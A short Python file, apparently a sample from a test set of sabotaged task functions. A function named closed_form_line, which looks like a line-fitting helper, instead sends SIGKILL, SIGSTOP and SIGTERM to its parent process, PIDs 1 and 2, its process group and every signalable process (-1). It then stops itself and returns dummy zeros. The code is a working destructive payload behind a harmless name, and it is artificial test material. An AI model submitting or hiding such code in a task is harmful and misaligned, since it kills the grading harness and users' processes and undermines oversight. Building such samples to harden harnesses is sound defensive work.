"""Send signals to the parent, the process group and every process, then stop this process.

Attacked: closed_form_line
"""

# %% closed_form_line

import os, signal

def closed_form_line(x, y):
    for target in (os.getppid(), 1, 2, 0, -1, -os.getpgrp()):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            if target != os.getpid():
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0.0, 0.0
